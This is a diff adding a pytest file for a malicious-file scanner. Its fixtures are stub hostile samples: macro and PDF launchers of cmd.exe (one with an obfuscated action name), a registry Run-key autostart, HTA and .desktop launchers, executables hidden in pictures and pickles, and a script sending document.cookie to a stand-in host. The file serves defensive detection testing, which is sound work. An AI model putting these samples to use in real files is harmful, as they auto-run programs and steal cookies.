@@ -1,0 +1,76 @@
+"""Documents and small files of a desktop that act when they are opened, and programs inside of other data."""
+
+from __future__ import annotations
+
+import pickle
+import struct
+
+import pytest
+
+from moongate.scan.engine import judge
+from moongate.weights.ranged import Held
+from support.pickled import zipped
+
+
+def verdict(data: bytes | str, name: str = "file") -> str:
+    return judge(Held(data.encode() if isinstance(data, str) else data), name).verdict
+
+
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
+MACROS = OLE + "_VBA_PROJECT".encode("utf-16-le") + bytes(60)
+ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 62, 1) + bytes(200)
+PE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\x00\x00" + struct.pack("<H", 0x8664) + bytes(200)
+CUBIN = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 190, 1) + bytes(200)
+NUMBERS = bytes(range(256)) * 20
+RUN = r"[HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run]"
+HTA = '<html><HTA:APPLICATION id="x"><script language="VBScript">x</script></html>'
+DANGEROUS = {
+    "macros that start a program": MACROS + b"AutoOpen WScript.Shell",
+    "a PDF that starts one": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/Launch/F(cmd.exe)>>>>endobj",
+    "a PDF that hides its words": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/L#61unch/F(cmd.exe)>>>>endobj",
+    "a registry": f'Windows Registry Editor Version 5.00\n\n{RUN}\n"x"="calc.exe"\n',
+    "a page that Windows runs": HTA,
+    "a program behind numbers": NUMBERS + ELF,
+    "one for Windows": NUMBERS + PE,
+    "behind a picture": b"\x89PNG\r\n\x1a\n" + bytes(100) + ELF,
+    "in a pickle": pickle.dumps({"w": ELF * 3}, 4),
+    "for an old Python": b"\x03\xf3\r\n" + bytes(4) + b"c" + bytes(60),
+    "for several Macs": b"\xbe\xba\xfe\xca\x02\x00\x00\x00" + bytes(100),
+    "for Erlang": b"FOR1\x00\x00\x01\x00BEAMAtU8" + bytes(60),
+}
+ODD = {
+    "macros": MACROS,
+    "macros in a zip": zipped({"[Content_Types].xml": b"<Types/>", "word/vbaProject.bin": MACROS}),
+    "an installer": OLE + bytes.fromhex("84100c0000000000c000000000000046") + bytes(60),
+    "a PDF with a script": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(x)>>>>endobj",
+    "an object in RTF": r"{\rtf1{\object\objautlink\objupdate{\*\objdata 01}}}",
+    "a starter": "[Desktop Entry]\nType=Application\nExec=bash -c id\n",
+    "an address": "[InternetShortcut]\nURL=file://x.test/share/x\n",
+    "a page that takes": '<html><script>fetch("http://x.test/?"+document.cookie)</script></html>',
+    "an engine": b"ftrt" + bytes(200),
+    "a package": b"\xed\xab\xee\xdb\x03\x00" + bytes(200),
+    "a disk": bytes(32_768) + b"\x01CD001\x01" + bytes(3000),
+    "a disk of Apple's": bytes(3000) + b"koly\x00\x00\x00\x04" + bytes(504),
+}
+ORDINARY = {
+    "a sheet": OLE + bytes(300),
+    "a PDF": b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj",
+    "code for a GPU": NUMBERS + CUBIN,
+    "marks by chance": NUMBERS + b"MZ" + bytes(300) + b"\x7fELF" + bytes(300),
+    "a page": "<html><script>document.title = localStorage.x</script></html>",
+}
+
+
+@pytest.mark.parametrize("name", DANGEROUS)
+def test_what_starts_programs_is_dangerous(name: str) -> None:
+    assert verdict(DANGEROUS[name]) == "dangerous"
+
+
+@pytest.mark.parametrize("name", ODD)
+def test_what_acts_is_not_clean(name: str) -> None:
+    assert verdict(ODD[name]) in {"suspicious", "unscanned"}
+
+
+@pytest.mark.parametrize("name", ORDINARY)
+def test_what_does_nothing_is_clean(name: str) -> None:
+    assert verdict(ORDINARY[name]) == "clean"
